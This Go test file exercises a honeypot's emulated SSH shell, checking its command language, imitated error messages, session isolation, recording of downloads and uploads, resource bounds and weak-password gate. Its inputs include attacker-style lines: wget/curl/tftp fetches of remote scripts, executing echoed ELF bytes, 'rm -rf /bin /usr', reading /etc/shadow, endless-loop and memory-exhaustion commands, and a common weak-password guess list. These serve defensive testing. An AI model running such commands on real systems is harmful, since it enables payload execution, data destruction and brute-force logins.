package shell_test

import (
	"bytes"
	"context"
	"net/netip"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/shell"
	"decnet/decoy/trap"
	"decnet/decoy/traptest"
)

// bench is a machine and what its sessions record.
type bench struct {
	*traptest.Bench
	machine *shell.Machine
	peer    *trap.Peer
}

func newBench(t *testing.T, id trap.Identity) *bench {
	t.Helper()
	b := &bench{Bench: traptest.New(t, func(trap.Env) (trap.Service, error) { return trap.Service{}, nil }, traptest.Options{Service: "ssh", Identity: id})}
	b.machine = shell.NewMachine(b.Env, "")
	b.peer = &trap.Peer{Env: b.Env, ID: "0123456789ab", Remote: netip.MustParseAddrPort("203.0.113.9:40000"), Port: 22, Recorder: b}
	return b
}

func (b *bench) root() *shell.Shell { return b.machine.Start(b.peer, "root") }

// run returns what a command says on both outputs, and its status.
func run(t *testing.T, sh *shell.Shell, line, stdin string) (string, int) {
	t.Helper()
	var out bytes.Buffer
	status := sh.Exec(t.Context(), line, strings.NewReader(stdin), &out, &out)
	return out.String(), status
}

// The language, checked against what bash and dash answer.
func TestShell_Language(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		`echo a  "b  c" 'd $HOME'`:                                              "a b  c d $HOME\n",
		`echo $HOME "$HOME" ${HOME}x \$HOME`:                                    "/root /root /rootx $HOME\n",
		`x=5; y="a b"; echo $y-"$y"-${x}`:                                       "a b-a b-5\n",
		`echo -n a; echo b`:                                                     "ab\n",
		`echo -e 'a\tb\x41\0101\\'`:                                             "a\tbAA\\\n",
		`echo -e "\x47\x72\x6f\x70/tmp"`:                                        "Grop/tmp\n",
		`echo -ne '\x7f\x45\x4c\x46' | wc -c`:                                   "4\n",
		`false || echo no && echo yes`:                                          "no\nyes\n",
		`true && false; echo $?`:                                                "1\n",
		`! true; echo $?`:                                                       "1\n",
		`echo one | cat | tr a-z A-Z`:                                           "ONE\n",
		`echo $(echo a; echo b) "$(echo c)" ` + "`echo d`":                      "a b c d\n",
		`for i in 1 2 3; do echo -n $i; done; echo`:                             "123\n",
		`i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo -n $i; done`:              "123",
		`if [ -f /etc/passwd ]; then echo y; else echo n; fi`:                   "y\n",
		`if [ -d /nowhere ]; then echo y; elif true; then echo e;fi`:            "e\n",
		`case abc in x) echo 1;; a*) echo 2;; esac`:                             "2\n",
		`f() { echo "<$1>" $#; }; f "a b" c`:                                    "<a b> 2\n",
		`(cd /tmp; pwd); pwd`:                                                   "/tmp\n/root\n",
		`cd /tmp && pwd`:                                                        "/tmp\n",
		`echo hi > /tmp/x; cat < /tmp/x; echo ho >> /tmp/x; wc -l /tmp/x`:       "hi\n2 /tmp/x\n",
		`cat <<< "a b"`:                                                         "a b\n",
		"cat <<E\nx $HOME\nE\necho after":                                       "x /root\nafter\n",
		"cat <<'E'\nx $HOME\nE":                                                 "x $HOME\n",
		`ls /nowhere 2>/dev/null; echo $?`:                                      "2\n",
		`ls /nowhere >/dev/null 2>&1 || echo failed`:                            "failed\n",
		`echo ${none:-def} ${HOME:+set} ${#HOME}`:                               "def set 5\n",
		`p=/a/b.c; echo ${p##*/} ${p%.*}`:                                       "b.c /a/b\n",
		`echo $((2+3*4)) $(( (2+3)*4 ))`:                                        "14 20\n",
		`A=1 env | grep -c A=`:                                                  "0\n",
		`export Z=7; sh -c 'echo $Z'`:                                           "7\n",
		`echo /etc/host*`:                                                       "/etc/hostname /etc/hosts\n",
		`echo "*" '*' /no*`:                                                     "* * /no*\n",
		`eval "echo a; echo b"`:                                                 "a\nb\n",
		`echo 'echo $1-$#' > s; sh s q r`:                                       "q-2\n",
		`for i in 1 2 3; do [ $i = 2 ] && continue; echo $i; done`:              "1\n3\n",
		`printf '%s-%03d\n' a 7 b 8`:                                            "a-007\nb-008\n",
		`echo root:x:0 | cut -d: -f1,3`:                                         "root:0\n",
		`echo "a b c" | awk '{print $2,$NF}'`:                                   "b c\n",
		`echo aXbXc | sed 's/X/-/g'`:                                            "a-b-c\n",
		`printf '3\n1\n2\n1\n' | sort | uniq -c | head -n1`:                     "      2 1\n",
		`echo a # comment`:                                                      "a\n",
		`echo a;echo b&&echo c`:                                                 "a\nb\nc\n",
		`yes | head -n 2`:                                                       "y\ny\n",
		`echo YWJj | base64 -d`:                                                 "abc",
		`sleep 0; exit 3; echo never`:                                           "",
		`true & echo $?`:                                                        "0\n",
		`while read l; do echo "[$l]"; done`:                                    "[in 1]\n[in 2]\n",
		`{ echo a; echo b; } | wc -l`:                                           "2\n",
		`x=$(cat /proc/cpuinfo | grep name | wc -l); [ $x -gt 0 ] && echo many`: "many\n",
	} {
		t.Run(line, func(t *testing.T) {
			t.Parallel()
			got, _ := run(t, newBench(t, trap.Identity{}).root(), line, "in 1\nin 2\n")
			assert.Equal(t, want, got)
		})
	}
}

func TestShell_ErrorsAreThoseOfTheImitatedShell(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		distro, line, want string
		status             int
	}{
		{"debian", "nosuch", "bash: line 1: nosuch: command not found\n", 127},
		{"debian", "./nosuch", "bash: line 1: ./nosuch: No such file or directory\n", 127},
		{"debian", "cd /nosuch", "bash: line 1: cd: /nosuch: No such file or directory\n", 1},
		{"debian", "/bin/busybox ECCHI", "ECCHI: applet not found\n", 127},
		{"debian", "echo x > /nosuch/y", "bash: line 1: /nosuch/y: No such file or directory\n", 1},
		{"debian", "cat /nosuch", "cat: /nosuch: No such file or directory\n", 1},
		{"debian", "echo x > f; ./f", "bash: line 1: ./f: Permission denied\n", 126},
		{"debian", "exit 300", "", 44},
		{"rocky9", "busybox", "bash: line 1: busybox: command not found\n", 127},
		{"alpine", "nosuch", "sh: nosuch: not found\n", 127},
		{"alpine", "/bin/busybox MIRAI", "MIRAI: applet not found\n", 127},
		{"alpine", "cat /nosuch", "cat: can't open '/nosuch': No such file or directory\n", 1},
	} {
		t.Run(test.distro+" "+test.line, func(t *testing.T) {
			t.Parallel()
			got, status := run(t, newBench(t, trap.Identity{Distro: test.distro}).root(), test.line, "")
			assert.Equal(t, test.want, got)
			assert.Equal(t, test.status, status)
		})
	}
}

func TestShell_MachineIsOneAndTheSame(t *testing.T) {
	t.Parallel()
	b := newBench(t, trap.Identity{})
	const look = "uname -a; cat /proc/cpuinfo; id; free -m; df -h; ps aux; cat /etc/passwd; ifconfig; ip a; lscpu; nproc; w; ls -la /; cat /etc/shadow"
	first, status := run(t, b.root(), look, "")
	assert.NotContains(t, first, "%!", "a format is wrong")
	assert.Zero(t, status)
	second, _ := run(t, b.root(), look, "")
	assert.Len(t, second, len(first), "another session sees another machine")
	assert.Contains(t, first, "Linux srv-web-07 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n")
	assert.Contains(t, first, "uid=0(root) gid=0(root) groups=0(root)\n")
	assert.Contains(t, first, "203.0.113.9")
	assert.Contains(t, first, "10.0.0.5")
	other := newBench(t, trap.Identity{Decky: "decky-02"})
	cpu, _ := run(t, b.root(), "cat /etc/shadow", "")
	otherCPU, _ := run(t, other.root(), "cat /etc/shadow", "")
	assert.NotEqual(t, cpu, otherCPU, "two machines have the same secrets")
}

func TestShell_SessionsDoNotSeeEachOther(t *testing.T) {
	t.Parallel()
	b := newBench(t, trap.Identity{})
	_, _ = run(t, b.root(), "echo x > /etc/passwd; rm -rf /bin /usr; touch /tmp/mine", "")
	got, _ := run(t, b.root(), "head -n 1 /etc/passwd; ls /tmp", "")
	assert.Equal(t, "root:x:0:0:root:/root:/bin/bash\n", got)
}

func TestShell_OneUserMayLessThanRoot(t *testing.T) {
	t.Parallel()
	b := newBench(t, trap.Identity{})
	sh := b.machine.Start(b.peer, "debian")
	got, _ := run(t, sh, "whoami; pwd; cat /etc/shadow; echo x > /etc/x; echo y > /tmp/y && cat /tmp/y; rm /etc/passwd", "")
	assert.Equal(t, "debian\n/home/debian\ncat: /etc/shadow: Permission denied\nbash: line 1: /etc/x: Permission denied\ny\nrm: cannot remove '/etc/passwd': Permission denied\n", got)
}

func TestShell_RecordsCommandsURLsAndFiles(t *testing.T) {
	t.Parallel()
	b := newBench(t, trap.Identity{})
	sh := b.root()
	const line = `cd /tmp; wget -q http://198.51.100.7/bins.sh -O b || curl -sO http://x.example/a/b.sh; tftp -g -r m 198.51.100.7; busybox tftp -g -r m 198.51.100.7`
	_, _ = run(t, sh, line, "")
	assert.Equal(t, line, traptest.Fields(b.Wait("command"))["command"])
	urls := b.WaitN("file_download", 3)
	assert.Equal(t, "http://198.51.100.7/bins.sh", traptest.Fields(urls[0])["url"])
	assert.Equal(t, "http://x.example/a/b.sh", traptest.Fields(urls[1])["url"])
	assert.Equal(t, "b.sh", traptest.Fields(urls[1])["filename"])
	assert.Equal(t, "tftp://198.51.100.7/m", traptest.Fields(urls[2])["url"])

	// A file that was echoed together is kept once it becomes a program.
	_, status := run(t, sh, `echo -ne "\x7f\x45" > d; echo -ne "\x4c\x46" >> d; chmod +x d; ./d`, "")
	assert.Zero(t, status)
	up := traptest.Fields(b.Wait("file_upload"))
	assert.Equal(t, "/tmp/d", up["filename"])
	assert.Equal(t, "4", up["size"])
	assert.Equal(t, "true", up["kept"])

	// What is sent into a file is kept whole, also where the shell keeps none of it.
	big := strings.Repeat("malware ", 100_000)
	_, _ = run(t, sh, "cat > /tmp/big; ls -l /tmp/big", big)
	up = traptest.Fields(b.WaitN("file_upload", 2)[1])
	assert.Equal(t, "/tmp/big", up["filename"])
	assert.Equal(t, "800000", up["size"])
	assert.Equal(t, "true", up["kept"])
	assert.Len(t, b.Events(), 3+3+2, "something was recorded twice")

	_, _ = run(t, sh, "passwd", "n3w\nn3w\n")
	assert.Equal(t, "n3w", traptest.Fields(b.Wait("password_change"))["new_password"])
}

// Each of these would run for ever, or eat the memory, if it weren't bounded.
func TestShell_NoLineHoldsTheMachineUp(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"while true; do :; done", "while :; do echo x; done", "yes", "f() { f; }; f", "f() { f | f; }; f",
		"x=a; while true; do x=$x$x; done", "while true; do echo aaaaaaaaaaaaaaaa >> /tmp/x; done",
		"for i in $(seq 1 1000000); do for j in $(seq 1 1000000); do echo $j; done; done",
		"cat /dev/zero", "dd if=/dev/zero bs=1G count=1000000", "i=0; while true; do touch /tmp/$i; i=$((i+1)); done",
		strings.Repeat("(", 100000), strings.Repeat("$(", 50000), strings.Repeat("{ ", 30000), "echo " + strings.Repeat("`", 9999),
		"echo 'sh x' > x; sh x", "printf '%999999999d' 1", "eval 'eval \"$0\"'", "until false; do ls -R / > /dev/null; done",
		strings.Repeat("!", 60000), "echo $((" + strings.Repeat("(", 60000) + "))", "echo $((" + strings.Repeat("-", 60000) + "1))",
		"x=$(yes a | head -c 60000); echo " + strings.Repeat(`"$x" `, 2000), "x=$(yes a | head -c 4000); while :; do echo ${x##*a*b*c*d*e*}; done",
		"x=$(yes a | head -c 60000); while :; do case $x in " + strings.Repeat("*a", 20000) + "*b) ;; esac; done",
		"yes a | head -c 60000 | tr -d '\\n' | awk '{print " + strings.Repeat("$0,", 15000) + "$0}'", "while :; do printf '" + strings.Repeat("%999d", 9000) + "' 1; done > /dev/null",
		"yes a | head -c 60000 | tr -d '\\n' | sed 's/./" + strings.Repeat("&", 250) + "/g'",
		"exec sh -c 'exec sh -c \"$0\" \"$0\"'", "echo x | xargs xargs xargs xargs sh",
		`busybox busybox busybox sh -c 'while :; do busybox id; done'`,
	} {
		t.Run(line[:min(len(line), 40)], func(t *testing.T) {
			t.Parallel()
			got, _ := run(t, newBench(t, trap.Identity{}).root(), line, "")
			assert.LessOrEqual(t, len(got), 300<<10)
		})
	}
}

func TestShell_Terminal(t *testing.T) {
	t.Parallel()
	b := newBench(t, trap.Identity{})
	var out bytes.Buffer
	// Typed: a mistake that is erased, a line that goes on, ^C, passwd, the key up.
	typed := "whoam\x7fmi\rif true\rthen echo yes\rfi\rjunk\x03passwd\rpw1\rpw1\rcat > f\rline\r\x04cat f\r\x1b[A\rexit\r"
	status := b.root().Interact(t.Context(), shell.NewTerminal(strings.NewReader(typed), &out, false))
	assert.Zero(t, status)
	const p = "root@srv-web-07:~# "
	assert.Equal(t, p+"whoam\b \bmi\r\nroot\r\n"+p+"if true\r\n> then echo yes\r\n> fi\r\nyes\r\n"+p+"junk^C\r\n"+
		p+"passwd\r\nNew password: \r\nRetype new password: \r\npasswd: password updated successfully\r\n"+
		p+"cat > f\r\nline\r\n"+p+"cat f\r\nline\r\n"+p+"cat f\r\nline\r\n"+p+"exit\r\nlogout\r\n", out.String())
	assert.Equal(t, "if true\nthen echo yes\nfi", traptest.Fields(b.WaitN("command", 2)[1])["command"])
}

func TestShell_EndsWithItsContext(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	var out bytes.Buffer
	newBench(t, trap.Identity{}).root().Exec(ctx, "sleep 10; echo never", strings.NewReader(""), &out, &out)
	require.Empty(t, out.String())
}

// Without a setting, a few weak passwords open each account: always the same
// ones, and other ones on the next machine.
func TestGate_WeakPasswordsArePerMachine(t *testing.T) {
	t.Parallel()
	guesses := []string{
		"123456", "admin", "password", "root", "12345678", "1234", "12345", "123456789", "admin123", "qwerty", "123", "111111", "toor",
		"P@ssw0rd", "1qaz2wsx", "test", "changeme", "raspberry", "pass", "default", "support", "user", "666666", "888888", "surely not", "",
	}
	open := func(decky, user string) string {
		b := newBench(t, trap.Identity{Decky: decky})
		g := shell.NewGate(b.Env.Host, nil, b.machine)
		var got []string
		for _, guess := range guesses {
			if g.Allows(user, guess) {
				got = append(got, guess)
			}
		}
		return strings.Join(got, " ")
	}
	root := open("a", "root")
	assert.Len(t, strings.Fields(root), 6)
	assert.Equal(t, root, open("a", "root"))
	assert.NotEqual(t, root, open("b", "root"))
	assert.NotEqual(t, root, open("a", "admin"))
	assert.Empty(t, open("a", "nobody"))

	b := newBench(t, trap.Identity{})
	g := shell.NewGate(b.Env.Host, trap.Config{"password": "only"}, b.machine)
	assert.True(t, g.Allows("root", "only"))
	for _, guess := range guesses {
		assert.False(t, g.Allows("root", guess), guess)
	}
}
